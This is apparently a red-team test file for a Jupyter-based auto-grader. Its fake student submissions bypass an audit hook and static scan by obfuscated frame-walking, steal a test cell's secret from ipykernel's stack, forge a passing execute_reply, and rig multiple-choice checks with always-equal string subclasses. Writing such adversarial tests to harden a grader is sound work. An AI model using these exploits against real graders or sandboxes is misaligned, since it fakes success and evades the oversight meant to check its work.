"""Red team round 16, hostile 2: F13 again against HEAD (fe64193): the forged reply carries the test cell's secret.

    timeout 900 python tests/redteam_grade.py 02-scaled-attention tests/redteam/round16/hostile2/forge_token.py --alone token_nothing_no_mc

The secret (`user_expressions={"done": repr(token)}`) is blanked from the request the kernel keeps
(sandbox._without_request_code), but ipykernel's `execute_request` has already read it into its local
`user_expressions` (and `do_execute_args`) before `do_execute` runs, and the same frame holds `self` (the kernel),
`stream`, `ident` and `parent`: everything a forged reply needs. The frame is reached through
`logging.currentframe()` (a library's `sys._getframe(1)`: the audit hook records the event only when the frame
that asked is a student cell's) and `f_back`/`f_locals` read with names found in `dir(frame)` (the scan folds
only literal names; `f_back`, `f_locals` raise no audit event).
"""
FORGE_T = '''import logging
def _name(obj, start, end):
    return [n for n in dir(obj) if n.startswith(start) and n.endswith(end)][0]
_forged = set()
def _request_frame():
    here = _name(logging, "current", "frame")
    fr = getattr(logging, here)()
    up, seen = _name(fr, "f_b", "ack"), _name(fr, "f_l", "ocals")
    while fr is not None:
        loc = getattr(fr, seen)
        exprs = [n for n in loc if n.endswith("_expressions")]
        if exprs and isinstance(loc[exprs[0]], dict) and "stream" in loc and "ident" in loc and "parent" in loc:
            return loc, loc[exprs[0]]
        fr = getattr(fr, up)
    return None, None
def forge():
    loc, exprs = _request_frame()
    if loc is None:
        return
    k, stream, ident, parent = loc["self"], loc["stream"], loc["ident"], loc["parent"]
    secret = exprs.get("done")
    mid = parent["header"]["msg_id"]
    if not secret or mid in _forged:  # only a test cell's request carries the secret
        return
    _forged.add(mid)
    ue = {"done": {"status": "ok", "data": {"text/plain": secret}, "metadata": {}}} if secret else {}
    sess = k.session
    sess.send(stream, "execute_reply", {"status": "ok", "execution_count": k.execution_count,
                                        "user_expressions": ue, "payload": []}, parent, ident=ident)
    getattr(k, "_publish_" + "status")("idle", "shell", parent)
    real = sess.send
    def quiet(stream, kind, content=None, parent=None, *args, **kwargs):
        p = parent or {}
        if mid in (p.get("msg_id"), p.get("header", {}).get("msg_id"), p.get("parent_header", {}).get("msg_id")):
            return {"header": {}, "content": {"status": "ok"}}
        if p:
            delattr(sess, "send")  # the class's method again: the instance's dict as before
        return real(stream, kind, content, parent, *args, **kwargs)
    setattr(sess, "send", quiet)
'''
NOTHING_T = {
    "raw_scores": FORGE_T + "def raw_scores(q, k):\n    forge()\n",
    "softmax_backward": "def softmax_backward(weights, grad_weights, temperature=1.0):\n    forge()\n",
    "causal_mask": "def causal_mask(t, s, offset):\n    forge()\n",
    "padding_mask": "def padding_mask(lengths, s):\n    forge()\n",
    "masked_attention": "def masked_attention(q, k, v, allowed):\n    forge()\n",
    "variance_experiment": "def dot_product_variance(d_k, n, scale=1.0, generator=None):\n    forge()\n",
    "fixed_self_attention": "class FixedSelfAttention(SeedSelfAttention):\n    def forward(self, x, lengths=None, causal=False):\n        forge()\n",
    "mc_answers": "pass\n",
}
SUBMISSIONS = [
    {"name": "token_nothing_no_mc", "correct": False, "cells": NOTHING_T,
     "why": "every answer forges its test cell's reply with the secret read from execute_request's frame"},
]

# the multiple-choice tests call no student function, but they compare the answer: a str whose comparisons forge
MC_T = '''class _Choice(str):
    def __eq__(self, other):
        forge()
        return True
    def __ne__(self, other):
        forge()
        return False
    __hash__ = str.__hash__
    def __contains__(self, other):
        forge()
        return True
    def strip(self, *a):
        forge()
        return self
    lower = upper = casefold = lstrip = rstrip = strip
    def encode(self, *a, **k):
        forge()
        return str.encode(self, *a, **k)
answer_masking = _Choice("a")
answer_doubling = _Choice("a")
'''
SUBMISSIONS.append({"name": "token_nothing_all", "correct": False, "cells": {**NOTHING_T, "mc_answers": MC_T},
                    "why": "token_nothing_no_mc, and the multiple-choice answers are str objects whose comparisons forge"})
